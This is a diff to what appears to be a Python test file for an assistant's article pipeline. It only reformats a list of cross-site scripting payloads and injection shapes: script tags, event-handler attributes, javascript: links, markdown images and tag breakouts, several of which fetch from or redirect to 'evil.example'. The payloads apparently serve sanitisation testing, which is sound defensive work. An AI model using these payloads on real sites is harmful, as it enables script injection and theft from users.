@@ -6,30 +6,35 @@ from assistant.pipeline import Assistant
 from corpus.article import Source, article_from_blocks
 from tests.toy import toy_assistant
 
-_BODIES = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'",
-           "document.body.innerHTML=1", "import('//evil.example/x.js')")
+_BODIES = (
+    "alert(1)",
+    "fetch('//evil.example')",
+    "top.location='//evil.example'",
+    "document.body.innerHTML=1",
+    "import('//evil.example/x.js')",
+)
 _SHAPES = (
     "<script>{}</script>",
     "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
     "</script><script>{}</script>",
     "<img src=x onerror={}>",
-    "<img src=//evil.example/p.gif onload=\"{}\">",
+    '<img src=//evil.example/p.gif onload="{}">',
     "<svg onload={}>",
     "<svg><script>{}</script></svg>",
-    "\"><script>{}</script>",
+    '"><script>{}</script>',
     "'\"><img src=x onerror={}>",
-    "\" onmouseover=\"{}",
+    '" onmouseover="{}',
     "' autofocus onfocus='{}",
     "javascript:{}",
     "[link](javascript:{})",
     "![x](//evil.example/{})",
-    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
-    "<a href=\"javascript:{}\">here</a>",
+    '<iframe srcdoc="<script>{}</script>"></iframe>',
+    '<a href="javascript:{}">here</a>',
     "<style>@import '//evil.example';</style>{}",
     "</textarea><script>{}</script>",
     "</template><script>{}</script>",
     "</title><script>{}</script>",
-    "<math><mi xlink:href=\"data:x,<script>{}</script>\">",
+    '<math><mi xlink:href="data:x,<script>{}</script>">',
     "<!--><script>{}</script>-->",
     "{{{{ {} }}}}{{% raw %}}",
     "event: done<br><script>{}</script>",
